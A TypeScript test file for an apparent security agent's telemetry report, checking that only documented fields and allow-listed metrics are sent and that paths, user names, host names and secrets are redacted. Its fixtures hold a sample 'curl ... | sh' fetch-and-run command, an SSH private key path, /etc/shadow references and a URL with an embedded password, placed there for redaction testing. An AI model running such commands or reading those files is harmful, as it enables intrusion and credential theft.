/**
 * The telemetry report carries exactly the fields docs/telemetry.md lists,
 * and none of the paths, command lines, user names or host names its
 * sources hold.
 */
import { describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { hostname } from "node:os";
import { join } from "node:path";
import { buildReport, METRIC_ALLOWLIST, pickMetrics, type ReportInputs, ReportSchema } from "./report.ts";

const SECRETS = ["alice", "/home", "/etc/shadow", "bash -c", "curl http", hostname(), "10.1.2.3", "s3cr3t"];

function inputs(): ReportInputs {
  return {
    reportId: "6f1c1d0e-8a8e-4d4b-9a53-0d3f6c1b2a77",
    agentId: "0b6d3c0e-1111-4222-8333-944455556666",
    agentVersion: "0.1.0",
    updateGroup: "public-1",
    periodStart: new Date("2026-12-01T00:00:00Z"),
    periodEnd: new Date("2026-12-02T00:00:00Z"),
    status: {
      health: "amber",
      content: [
        { type: "Behavior", version: 3, handlerState: "loaded", installedFrom: "/home/alice/pkg" } as never,
      ],
      hosts: [
        {
          group: "behavior",
          state: "running",
          restarts: 2,
          crashesInWindow: 1,
          rssBytes: 1234,
          user: "alice",
        } as never,
      ],
    },
    ruleStats: {
      rules: [
        {
          name: "BEH-001",
          calls: 10,
          timeMs: 5,
          maxMs: 1.5,
          faults: 1,
          limitFaults: 0,
          detections: 2,
          disabled: false,
          lastError: "attempt to open /home/alice/.ssh/id_rsa",
          lastEvent: { cmdline: "bash -c 'curl http://10.1.2.3/x | sh'", user: "alice" },
        },
      ],
      library: [{ name: "product.net", calls: 1, timeMs: 0.1, maxMs: 0.1, faults: 0, limitFaults: 0 }],
    },
    queryStats: {
      queries: [
        {
          name: "pack_users",
          runs: 4,
          rows: 40,
          wallMsTotal: 12,
          errors: 0,
          watchdogKills: 1,
          denylistedUntil: "2026-12-02T00:00:00Z",
          denylistReason: "cpu on /etc/shadow",
          sql: "SELECT * FROM users WHERE username = 'alice'",
        },
      ],
      hostIdentifier: hostname(),
    },
    metricsText: [
      "# HELP outpost_update_rejections_total x",
      'outpost_update_rejections_total{code="UPD_NETWORK",type=""} 3',
      'outpost_update_rejections_total{code="UPD_NETWORK",type="",file="/home/alice/x"} 2',
      'outpost_content_installs_total{type="/etc/shadow"} 1',
      'outpost_scan_detections_total{kind="sig",verdict="malicious",path="/home/alice/evil"} 4',
      'outpost_http_requests_total{route="/v1/status"} 9',
      'outpost_secret_total{user="alice"} 1',
      'outpost_sensor_events_total{type="file.write",path="/home/alice/notes.txt"} 7',
      'outpost_sensor_events_dropped_total{consumer="behavior"} 2',
      'outpost_onaccess_files_total{outcome="scanned",file="/etc/shadow"} 4',
      'outpost_scan_duration_seconds_bucket{le="0.01",mode="on-access",target="file"} 3',
      'outpost_scan_duration_seconds_bucket{le="+Inf",mode="on-access",target="file"} 4',
      'outpost_scan_duration_seconds_bucket{le="/home/alice",mode="on-access",target="file"} 1',
      'outpost_scan_duration_seconds_sum{mode="on-access",target="file",path="/home/alice/x"} 0.125',
      'outpost_scan_duration_seconds_count{mode="on-access",target="file"} 4',
      "outpost_process_uptime_seconds 55",
    ].join("\n"),
    healthHistory: [
      {
        at: "2026-12-01T10:00:00.000Z",
        change: "raised",
        source: "esh",
        level: "info",
        code: "KBA-1001",
        message: "repo http://alice:s3cr3t@10.1.2.3/ unreachable",
      } as never,
    ],
  };
}

/** Every key path in a value (`rules[].calls`), arrays collapsed. */
function keyPaths(v: unknown, prefix = ""): string[] {
  if (Array.isArray(v)) return v.flatMap((x) => keyPaths(x, `${prefix}[]`));
  if (v && typeof v === "object") {
    // Record-valued fields (metric labels) document the map, not each key.
    if (prefix.endsWith("labels")) return [prefix];
    return Object.entries(v).flatMap(([k, x]) => {
      const p = prefix ? `${prefix}.${k}` : k;
      return [p, ...keyPaths(x, p)];
    });
  }
  return [];
}

describe("telemetry report", () => {
  test("contains none of the paths, command lines, user or host names in its sources", () => {
    const json = JSON.stringify(buildReport(inputs()));
    for (const s of SECRETS) expect(json).not.toContain(s);
  });

  test("sends exactly the fields docs/telemetry.md lists, no more and no fewer", () => {
    const report = buildReport(inputs());
    const sent = [...new Set(keyPaths(report))].sort();
    const doc = readFileSync(join(import.meta.dir, "../../docs/telemetry.md"), "utf8");
    const table = doc.slice(doc.indexOf("<!-- fields -->"), doc.indexOf("<!-- /fields -->"));
    const documented = [...table.matchAll(/^\| `([^`]+)` \|/gm)].map((m) => m[1]!).sort();
    expect(documented.length).toBeGreaterThan(20);
    expect(sent).toEqual(documented);
  });

  test("metrics: only allow-listed names and label keys (sensor, on-access and scan-duration series too); odd label values become 'other'; summed over dropped labels", () => {
    expect(pickMetrics(inputs().metricsText)).toEqual([
      { name: "outpost_update_rejections_total", labels: { code: "UPD_NETWORK", type: "" }, value: 5 },
      { name: "outpost_content_installs_total", labels: { type: "other" }, value: 1 },
      { name: "outpost_scan_detections_total", labels: { kind: "sig", verdict: "malicious" }, value: 4 },
      { name: "outpost_sensor_events_total", labels: { type: "file.write" }, value: 7 },
      { name: "outpost_sensor_events_dropped_total", labels: { consumer: "behavior" }, value: 2 },
      { name: "outpost_onaccess_files_total", labels: { outcome: "scanned" }, value: 4 },
      {
        name: "outpost_scan_duration_seconds_bucket",
        labels: { le: "0.01", mode: "on-access", target: "file" },
        value: 3,
      },
      {
        name: "outpost_scan_duration_seconds_bucket",
        labels: { le: "+Inf", mode: "on-access", target: "file" },
        value: 4,
      },
      // A bucket bound that is not a number is no bound: "other", like any odd label value.
      {
        name: "outpost_scan_duration_seconds_bucket",
        labels: { le: "other", mode: "on-access", target: "file" },
        value: 1,
      },
      {
        name: "outpost_scan_duration_seconds_sum",
        labels: { mode: "on-access", target: "file" },
        value: 0.125,
      },
      {
        name: "outpost_scan_duration_seconds_count",
        labels: { mode: "on-access", target: "file" },
        value: 4,
      },
      { name: "outpost_process_uptime_seconds", labels: {}, value: 55 },
    ]);
  });

  test("docs/telemetry.md's metrics table is the allow-list: same series, same label keys", () => {
    const doc = readFileSync(join(import.meta.dir, "../../docs/telemetry.md"), "utf8");
    const table = doc.slice(doc.indexOf("<!-- metrics -->"), doc.indexOf("<!-- /metrics -->"));
    const documented = Object.fromEntries(
      [...table.matchAll(/^\| `([a-z_]+)` \| ([^|]+) \|/gm)].map((m) => [
        m[1]!,
        m[2]!.trim() === "(none)" ? [] : m[2]!.split(",").map((l) => l.trim()),
      ]),
    );
    expect(Object.keys(documented).length).toBeGreaterThan(20);
    expect(documented).toEqual(
      Object.fromEntries(Object.entries(METRIC_ALLOWLIST).map(([k, v]) => [k, [...v]])),
    );
  });

  test("the schema refuses anything beyond the contract (a field added by mistake is never sent)", () => {
    const report = buildReport(inputs());
    expect(ReportSchema.safeParse({ ...report, hostname: hostname() }).success).toBe(false);
    const rules = [{ ...report.rules[0]!, lastError: "x" }];
    expect(ReportSchema.safeParse({ ...report, rules }).success).toBe(false);
  });

  test("rows keep the measured numbers", () => {
    const r = buildReport(inputs());
    expect(r.rules[0]).toEqual({
      rule: "BEH-001",
      calls: 10,
      timeMs: 5,
      maxMs: 1.5,
      faults: 1,
      limitFaults: 0,
      detections: 2,
      disabled: false,
    });
    expect(r.queries[0]).toMatchObject({ query: "pack_users", watchdogKills: 1, denylisted: true });
    expect(r.hosts[0]).toEqual({
      group: "behavior",
      state: "running",
      restarts: 2,
      crashesInWindow: 1,
      rssBytes: 1234,
    });
    expect(r.healthHistory).toEqual([
      { at: "2026-12-01T10:00:00.000Z", change: "raised", source: "esh", level: "info", code: "KBA-1001" },
    ]);
  });
});
